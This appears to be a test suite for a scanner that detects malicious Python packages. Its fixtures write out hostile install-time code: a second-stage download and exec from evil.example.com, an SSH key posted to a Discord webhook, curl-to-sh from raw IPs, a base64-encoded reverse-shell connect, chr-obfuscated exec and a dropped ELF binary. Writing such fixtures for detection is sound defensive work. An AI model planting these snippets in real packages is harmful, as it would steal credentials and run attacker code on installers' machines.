import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { isPavedError } from '../../../src/errors.js';
import { atLeast, makeExcerpt, type Finding } from '../../../src/index/scan/findings.js';
import { lineOfOffset, readPythonSource } from '../../../src/index/scan/pythonSource.js';
import { isPublicIpv4 } from '../../../src/index/scan/rules/hosts.js';
import { scanDistribution, SCAN_LIMIT_RULES, SCANNER_VERSION, type ScanResult } from '../../../src/index/scan/scanDistribution.js';
import { buildSdist, buildWheel, createFixtureDir, sdistFilenameFor, wheelFilenameFor, type FixtureDir, type SdistOptions, type WheelOptions } from '../../fixtures/buildDistributions.js';
import { HISTORY, PYPI_SUBSET } from '../../fixtures/corpus.js';

let fixtures: FixtureDir;
before(async () => {
  fixtures = await createFixtureDir('paved-scan-');
});
after(async () => {
  await fixtures.cleanup();
});

async function scanWheel(options: WheelOptions): Promise<ScanResult> {
  return scanDistribution(await fixtures.write(await buildWheel(options)), wheelFilenameFor(options));
}

async function scanSdist(options: SdistOptions): Promise<ScanResult> {
  return scanDistribution(await fixtures.write(await buildSdist(options)), sdistFilenameFor(options));
}

function high(result: ScanResult): Finding[] {
  return result.findings.filter((f) => atLeast(f.severity, 'high'));
}

/** The finding of `rule` in `file` at `line`; fails with every finding listed when there is none. */
function findingAt(result: ScanResult, rule: string, file: string, line: number | null): Finding {
  const found = result.findings.find((f) => f.rule === rule && f.file === file && f.line === line);
  assert.ok(found, `no ${rule} finding at ${file}:${line}; got\n${result.findings.map((f) => `  ${f.rule} ${f.severity} ${f.file}:${f.line} ${f.message}`).join('\n')}`);
  return found;
}

function assertAtLeastHigh(finding: Finding): void {
  assert.ok(atLeast(finding.severity, 'high'), `${finding.rule} at ${finding.file}:${finding.line} is only ${finding.severity}`);
}

/** Joins source lines, so the line numbers the tests assert are the array positions + 1. */
function source(...lines: string[]): string {
  return `${lines.join('\n')}\n`;
}

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120, 0x41)]);

describe('scanDistribution: hand-written malicious packages', () => {
  it('setup.py that downloads a second stage and execs it', async () => {
    const result = await scanSdist({
      name: 'evilpkg',
      version: '1.0',
      files: {
        'setup.py': source(
          'import urllib.request',
          'from setuptools import setup',
          '',
          'payload = urllib.request.urlopen("https://evil.example.com/stage2.py").read()',
          'exec(payload)',
          '',
          'setup(name="evilpkg", version="1.0")',
        ),
      },
    });
    const download = findingAt(result, 'install-time-download', 'evilpkg-1.0/setup.py', 4);
    assertAtLeastHigh(download);
    assert.equal(download.excerpt, 'payload = urllib.request.urlopen("https://evil.example.com/stage2.py").read()');
    assert.equal(findingAt(result, 'download-and-execute', 'evilpkg-1.0/setup.py', 4).severity, 'critical');
  });

  it('.pth file whose import line decodes base64 and execs it at every interpreter start', async () => {
    const result = await scanWheel({
      name: 'evil-pth',
      version: '1.0',
      files: {
        'evil_pth/__init__.py': '',
        'evil_pth.pth': source('/opt/somewhere', 'import base64; exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))'),
      },
    });
    assert.equal(findingAt(result, 'decode-and-execute', 'evil_pth.pth', 2).severity, 'critical');
  });

  it('setup.py install hook that reads ~/.ssh/id_rsa and posts it to a Discord webhook', async () => {
    const result = await scanSdist({
      name: 'stealer',
      version: '1.0',
      files: {
        'setup.py': source(
          'import os, requests',
          'from setuptools import setup',
          'from setuptools.command.install import install',
          '',
          'class PostInstall(install):',
          '    def run(self):',
          '        key = open(os.path.expanduser("~/.ssh/id_rsa")).read()',
          '        requests.post(',
          '            "https://discord.com/api/webhooks/1234/abcd",',
          '            json={"content": key},',
          '        )',
          '        install.run(self)',
          '',
          'setup(name="stealer", version="1.0", cmdclass={"install": PostInstall})',
        ),
      },
    });
    const file = 'stealer-1.0/setup.py';
    assertAtLeastHigh(findingAt(result, 'credential-access', file, 7));
    assertAtLeastHigh(findingAt(result, 'exfiltration-host', file, 9));
    assertAtLeastHigh(findingAt(result, 'install-time-download', file, 8));
    assert.equal(findingAt(result, 'credential-exfiltration', file, 7).severity, 'critical');
  });

  it('subprocess with shell=True piping curl from a raw IP into sh, output hidden', async () => {
    const result = await scanSdist({
      name: 'curlpipe',
      version: '1.0',
      files: {
        'setup.py': source(
          'import subprocess',
          'from setuptools import setup',
          'subprocess.Popen("curl -s http://45.77.12.9/x.sh | sh", shell=True,',
          '                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
          'setup(name="curlpipe", version="1.0")',
        ),
      },
    });
    const file = 'curlpipe-1.0/setup.py';
    assert.equal(findingAt(result, 'shell-download', file, 3).severity, 'critical');
    assertAtLeastHigh(findingAt(result, 'raw-ip-address', file, 3));
    assert.match(findingAt(result, 'raw-ip-address', file, 3).message, /45\.77\.12\.9/);
    assertAtLeastHigh(findingAt(result, 'download-and-execute', file, 3));
  });

  it('the same curl | sh in a wheel package __init__.py (runs at import), and a nohup-detached process', async () => {
    const result = await scanWheel({
      name: 'curlinit',
      version: '1.0',
      files: {
        'curlinit/__init__.py': source(
          'import os',
          'import subprocess',
          'os.system("wget -qO- http://203.0.113.9/a | bash")',
          'subprocess.Popen(["nohup", "/tmp/.cache/agent"], start_new_session=True)',
        ),
      },
    });
    assertAtLeastHigh(findingAt(result, 'shell-download', 'curlinit/__init__.py', 3));
    // 203.0.113.0/24 is a documentation range: not reported as a public address.
    assert.equal(result.findings.filter((f) => f.rule === 'raw-ip-address').length, 0);
    findingAt(result, 'silent-process', 'curlinit/__init__.py', 4);
  });

  it('obfuscated exec: a chr() chain in one statement, and through a variable', async () => {
    const chain = [105, 109, 112, 111, 114, 116, 32, 111, 115].map((c) => `chr(${c})`).join(' + ');
    const result = await scanSdist({
      name: 'obf',
      version: '1.0',
      files: {
        'setup.py': source('from setuptools import setup', `exec(${chain})`, 'setup(name="obf", version="1.0")'),
        'obf/__init__.py': source('import sys', `_O0O0OO0 = ${chain}`, '', 'exec(_O0O0OO0)'),
      },
    });
    assert.equal(findingAt(result, 'obfuscated-exec', 'obf-1.0/setup.py', 2).severity, 'critical');
    assertAtLeastHigh(findingAt(result, 'decode-and-execute', 'obf-1.0/obf/__init__.py', 4));
  });

  it('long base64 payload and escaped strings in install code', async () => {
    const blob = Buffer.from('import socket,subprocess,os;s=socket.socket();s.connect(("45.77.12.9",4444));'.repeat(4)).toString('base64');
    const escaped = [...'import os; os.system("id")'.repeat(3)].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
    const result = await scanSdist({
      name: 'blob',
      version: '1.0',
      files: { 'setup.py': source('from setuptools import setup', `DATA = "${blob}"`, `CMD = "${escaped}"`, 'setup(name="blob", version="1.0")') },
    });
    assertAtLeastHigh(findingAt(result, 'encoded-payload', 'blob-1.0/setup.py', 2));
    assertAtLeastHigh(findingAt(result, 'obfuscated-code', 'blob-1.0/setup.py', 3));
  });

  it('dropped ELF binary that setup.py marks executable and runs', async () => {
    const result = await scanSdist({
      name: 'dropper',
      version: '1.0',
      files: {
        'setup.py': source(
          'import os, subprocess',
          'from setuptools import setup',
          'here = os.path.dirname(os.path.abspath(__file__))',
          'helper = os.path.join(here, "bin", "helper")',
          'os.chmod(helper, 0o755)',
          'subprocess.call([helper])',
          'setup(name="dropper", version="1.0")',
        ),
        'bin/helper': ELF,
      },
    });
    assertAtLeastHigh(findingAt(result, 'install-drops-executable', 'dropper-1.0/setup.py', 5));
    const bundled = findingAt(result, 'bundled-binary', 'dropper-1.0/setup.py', 4);
    assert.equal(bundled.severity, 'critical');
    assert.match(bundled.message, /ELF executable dropper-1\.0\/bin\/helper/);
  });

  it('install code that writes decoded bytes, chmods them +x and runs them', async () => {
    const result = await scanSdist({
      name: 'writer',
      version: '1.0',
      files: {
        'setup.py': source(
          'import base64, os, subprocess',
          'from setuptools import setup',
          'with open("/tmp/.x", "wb") as f:',
          '    f.write(base64.b64decode(open("data.b64").read()))',
          'os.system("chmod +x /tmp/.x && /tmp/.x &")',
          'setup(name="writer", version="1.0")',
        ),
      },
    });
    assert.equal(findingAt(result, 'install-drops-executable', 'writer-1.0/setup.py', 5).severity, 'critical');
  });

  it('version 0.0.0 with an install hook and no description', async () => {
    const result = await scanSdist({
      name: 'hollow',
      version: '0.0.0',
      pkgInfo: { summary: null, description: null },
      files: {
        'setup.py': source(
          'import os',
          'from setuptools import setup',
          'from setuptools.command.install import install',
          '',
          'class Hook(install):',
          '    def run(self):',
          '        os.system("id > /tmp/x")',
          '        install.run(self)',
          '',
          'setup(name="hollow", version="0.0.0", cmdclass={"install": Hook})',
        ),
      },
    });
    findingAt(result, 'process-spawn', 'hollow-0.0.0/setup.py', 7);
    assertAtLeastHigh(findingAt(result, 'empty-description-with-install-hooks', 'METADATA', null));
    assertAtLeastHigh(findingAt(result, 'placeholder-version-with-install-hooks', 'METADATA', null));
  });

  it('in-tree build back-end (pyproject backend-path) counts as install-time code', async () => {
    const result = await scanSdist({
      name: 'backend',
      version: '1.0',
      files: {
        'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "mybackend"\nbackend-path = ["_build"]\n',
        '_build/mybackend.py': source('import requests', 'def build_wheel(*a):', '    requests.get("https://example.com/x")'),
      },
    });
    assertAtLeastHigh(findingAt(result, 'install-time-download', 'backend-1.0/_build/mybackend.py', 3));
  });

  it('paste sites and raw IPs in a zip sdist setup.cfg', async () => {
    const result = await scanSdist({
      name: 'cfg',
      version: '1.0',
      format: 'zip',
      files: { 'setup.cfg': '[metadata]\nname = cfg\n[options]\ndependency_links = http://91.210.7.4/pkgs/\n', 'setup.py': 'from setuptools import setup\nsetup()\n' },
    });
    assertAtLeastHigh(findingAt(result, 'raw-ip-address', 'cfg-1.0/setup.cfg', 4));
  });
});

describe('scanDistribution: hostile and tricky inputs', () => {
  it('a .pth runs only its import lines: code on a path line is not code', async () => {
    const result = await scanWheel({
      name: 'pathonly',
      version: '1.0',
      files: { 'pathonly/__init__.py': '', 'pathonly.pth': source('exec(base64.b64decode("aW1wb3J0IG9z"))', '/usr/lib/extra') },
    });
    assert.deepEqual(high(result), []);
  });

  it('line numbers stay right after multi-line docstrings and continuations, and escapes do not hide a webhook', async () => {
    const result = await scanWheel({
      name: 'hidden',
      version: '1.0',
      files: {
        'hidden/__init__.py': source(
          '"""Module docstring',
          'spanning three lines',
          '"""',
          'x = 1 + \\',
          '    2',
          'URL = "\\x68ttps://webhook.site/abc"  # spelled with an escape',
        ),
      },
    });
    assertAtLeastHigh(findingAt(result, 'exfiltration-host', 'hidden/__init__.py', 6));
  });

  it('an ELF binary in an sdist that nothing refers to is only low', async () => {
    const result = await scanSdist({ name: 'shipsbin', version: '1.0', files: { 'setup.py': 'from setuptools import setup\nsetup()\n', 'tools/prebuilt': ELF } });
    const finding = findingAt(result, 'bundled-binary', 'shipsbin-1.0/tools/prebuilt', null);
    assert.equal(finding.severity, 'low');
    assert.deepEqual(high(result), []);
  });

  it('a module that decodes a shipped blob and runs it is high; one that decodes its argument is a deserialiser (medium)', async () => {
    const blob = Buffer.from('print("hello from a hidden payload, long enough")').toString('base64');
    const result = await scanWheel({
      name: 'deser',
      version: '1.0',
      files: {
        'deser/__init__.py': '',
        'deser/payload.py': source('import base64', `_P = "${blob}"`, 'def go():', '    exec(base64.b64decode(_P))'),
        'deser/funcs.py': source('import marshal, types', 'def load(raw):', '    code = marshal.loads(raw)', '    return types.FunctionType(code, globals())'),
      },
    });
    assertAtLeastHigh(findingAt(result, 'decode-and-execute', 'deser/payload.py', 4));
    assert.equal(findingAt(result, 'decode-and-execute', 'deser/funcs.py', 4).severity, 'medium');
  });
});

describe('scanDistribution: benign lookalikes stay below high', () => {
  it('an ordinary setuptools setup.py (README, version from git, build_ext)', async () => {
    const result = await scanSdist({
      name: 'plain',
      version: '2.3.1',
      files: {
        'setup.py': source(
          'import os, re, subprocess',
          'from setuptools import setup, find_packages, Extension',
          'from setuptools.command.build_ext import build_ext',
          '',
          'here = os.path.abspath(os.path.dirname(__file__))',
          'with open(os.path.join(here, "README.md"), encoding="utf-8") as f:',
          '    long_description = f.read()',
          '',
          'def git_version():',
          '    try:',
          '        out = subprocess.check_output(["git", "describe", "--tags"], stderr=subprocess.DEVNULL)',
          '        return out.decode().strip()',
          '    except Exception:',
          '        return "0+unknown"',
          '',
          'class BuildExt(build_ext):',
          '    def build_extensions(self):',
          '        if os.environ.get("CC") is None:',
          '            os.environ["CC"] = "cc"',
          '        build_ext.build_extensions(self)',
          '',
          'setup(',
          '    name="plain",',
          '    version="2.3.1",',
          '    url="https://github.com/example/plain",',
          '    long_description=long_description,',
          '    packages=find_packages(exclude=["tests"]),',
          '    ext_modules=[Extension("plain._speed", ["src/speed.c"])],',
          '    cmdclass={"build_ext": BuildExt},',
          '    env=dict(CFLAGS="-O2"),',
          ')',
        ),
        'plain/__init__.py': '__version__ = "2.3.1"\n',
      },
    });
    assert.deepEqual(high(result), []);
  });

  it('library modules using subprocess.run, requests.get, base64 data, ~/.netrc, and docstrings that mention exec', async () => {
    const icon = Buffer.from(Array.from({ length: 400 }, (_, i) => (i * 37) % 256)).toString('base64');
    const result = await scanWheel({
      name: 'tooling',
      version: '1.4.0',
      files: {
        'tooling/__init__.py': source('"""Tooling. Never do exec(base64.b64decode(x)) in your code."""', '__version__ = "1.4.0"'),
        'tooling/client.py': source(
          'import base64, os, subprocess',
          'import requests',
          '',
          'def fetch(url):',
          '    return requests.get(url, timeout=10).json()',
          '',
          'def git_root():',
          '    return subprocess.run(["git", "rev-parse", "--show-toplevel"], capture_output=True, check=True).stdout',
          '',
          'def netrc_path():',
          '    return os.path.expanduser("~/.netrc")',
          '',
          '# exec(base64.b64decode(PAYLOAD)) -- a comment, not code',
          'def decode_token(token):',
          '    return base64.b64decode(token).decode("utf-8")',
        ),
        'tooling/icons.py': source('import base64', `ICON = base64.b64decode("${icon}")`),
        'tooling/shell.py': source('import subprocess', 'def run(cmd):', '    return subprocess.run(cmd, shell=True, stdout=subprocess.DEVNULL)'),
        'tooling-1.4.0.data/scripts/tool': source('#!/usr/bin/python', 'import subprocess, sys', 'sys.exit(subprocess.call(["tooling-run"] + sys.argv[1:]))'),
        'distutils-precedence.pth': "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
      },
    });
    assert.deepEqual(high(result), []);
    assert.ok(result.findings.some((f) => f.rule === 'credential-access' && f.severity === 'low' && f.file === 'tooling/client.py' && f.line === 11));
    assert.equal(result.scannerVersion, SCANNER_VERSION);
    assert.ok(result.scannedFiles >= 6);
  });

  it('every corpus wheel scans with no finding of high or more', async () => {
    const files = [PYPI_SUBSET, HISTORY].flatMap((dir) => readdirSync(dir).filter((n) => /\.(?:whl|tar\.gz|zip)$/.test(n)).map((n) => ({ dir, n })));
    assert.ok(files.length >= 60, `expected the corpus, found ${files.length} files`);
    const flagged: string[] = [];
    for (const { dir, n } of files) {
      const result = await scanDistribution(join(dir, n), n);
      for (const f of high(result)) flagged.push(`${n} ${f.file}:${f.line} ${f.rule} ${f.message}`);
    }
    assert.deepEqual(flagged, []);
  });
});

describe('scanDistribution: limits and refusals', () => {
  it('scans only the first maxScanBytesPerFile bytes of a file and says so', async () => {
    const body = `${'x = 1\n'.repeat(2000)}exec(base64.b64decode(P))\n`;
    const path = await fixtures.write(await buildWheel({ name: 'big', version: '1.0', files: { 'big/__init__.py': body } }));
    const result = await scanDistribution(path, 'big-1.0-py3-none-any.whl', { maxScanBytesPerFile: 4096 });
    findingAt(result, SCAN_LIMIT_RULES.fileTruncated, 'big/__init__.py', null);
    assert.ok(!result.findings.some((f) => f.rule === 'decode-and-execute'));
    const full = await scanDistribution(path, 'big-1.0-py3-none-any.whl');
    findingAt(full, 'decode-and-execute', 'big/__init__.py', 2001);
  });

  it('refuses an archive whose member escapes it (tar.gz and zip) instead of scanning it', async () => {
    for (const format of ['tar.gz', 'zip'] as const) {
      const bytes = await buildSdist({ name: 'escape', version: '1.0', format, extraEntries: [{ name: '../evil.py', data: 'exec(x)' }] });
      await assert.rejects(scanDistribution(await fixtures.write(bytes), `escape-1.0.${format}`), (e) => isPavedError(e, 'PAVED_E_UNSAFE_ARCHIVE'), format);
    }
  });

  it('refuses a file it cannot read as the format its name says', async () => {
    const path = await fixtures.write(Buffer.from('not a zip at all'));
    for (const name of ['x-1.0-py3-none-any.whl', 'x-1.0.tar.gz', 'x-1.0.rar']) {
      await assert.rejects(scanDistribution(path, name), (e) => isPavedError(e, 'PAVED_E_INVALID_ARCHIVE'), name);
    }
  });
});

describe('readPythonSource', () => {
  const cases: { name: string; text: string; code: string[]; strings: [string, number][] }[] = [
    { name: 'comments dropped', text: 'x = 1  # exec(evil)\n', code: ['x = 1'], strings: [] },
    { name: 'hash inside a string is not a comment', text: 'u = "http://a/#frag"\n', code: ['u = ""'], strings: [['http://a/#frag', 1]] },
    { name: 'triple-quoted string across lines', text: 'd = """a\nb\nc"""\ny = 2\n', code: ['d = ""', 'y = 2'], strings: [['a\nb\nc', 1]] },
    { name: 'brackets join lines', text: 'f(1,\n  "s",\n  3)\n', code: ['f(1, "" , 3)'], strings: [['s', 2]] },
    { name: 'backslash continuation', text: 'a = 1 + \\\n  2\n', code: ['a = 1 + 2'], strings: [] },
    { name: 'escapes decoded, raw strings kept', text: 's = "\\x68\\x74tp"\nr = r"\\x68"\n', code: ['s = ""', 'r = ""'], strings: [['http', 1], ['\\x68', 2]] },
    { name: 'prefixes and escaped quotes', text: "b = rb'a\\'b' + f'{x}'\n", code: ['b = "" + ""'], strings: [["a\\'b", 1], ['{x}', 1]] },
    { name: 'unterminated string ends at the line', text: 'x = "abc\ny = 1\n', code: ['x = ""', 'y = 1'], strings: [['abc', 1]] },
  ];
  for (const c of cases) {
    it(c.name, () => {
      const parsed = readPythonSource(c.text);
      assert.deepEqual(parsed.logical.map((l) => l.code.replace(/\s+/g, ' ').trim()), c.code);
      assert.deepEqual(parsed.logical.flatMap((l) => l.strings.map((s) => [s.value, s.line])), c.strings);
    });
  }

  it('maps offsets in a joined statement back to physical lines', () => {
    const parsed = readPythonSource('call(\n  a,\n  shell=True)\n');
    const logical = parsed.logical[0];
    assert.ok(logical);
    assert.equal(lineOfOffset(logical, logical.code.indexOf('shell')), 3);
    assert.equal(lineOfOffset(logical, 0), 1);
  });
});

describe('isPublicIpv4 and excerpts', () => {
  const table: [string, boolean][] = [
    ['45.77.12.9', true],
    ['8.8.8.8', true],
    ['127.0.0.1', false],
    ['0.0.0.0', false],
    ['10.1.2.3', false],
    ['172.20.0.1', false],
    ['172.32.0.1', true],
    ['192.168.1.1', false],
    ['169.254.169.254', false],
    ['192.0.2.10', false],
    ['198.51.100.7', false],
    ['224.0.0.1', false],
    ['256.1.1.1', false],
    ['1.2.3', false],
  ];
  for (const [ip, expected] of table) it(`${ip} → ${expected}`, () => assert.equal(isPublicIpv4(ip), expected));

  it('excerpts are clipped to 160 characters with control characters escaped', () => {
    assert.equal(makeExcerpt('  a\x1bb\x00c  '), 'a\\x1bb\\x00c');
    const long = makeExcerpt('y'.repeat(500));
    assert.equal(long.length, 160);
    assert.ok(long.endsWith('…'));
  });
});
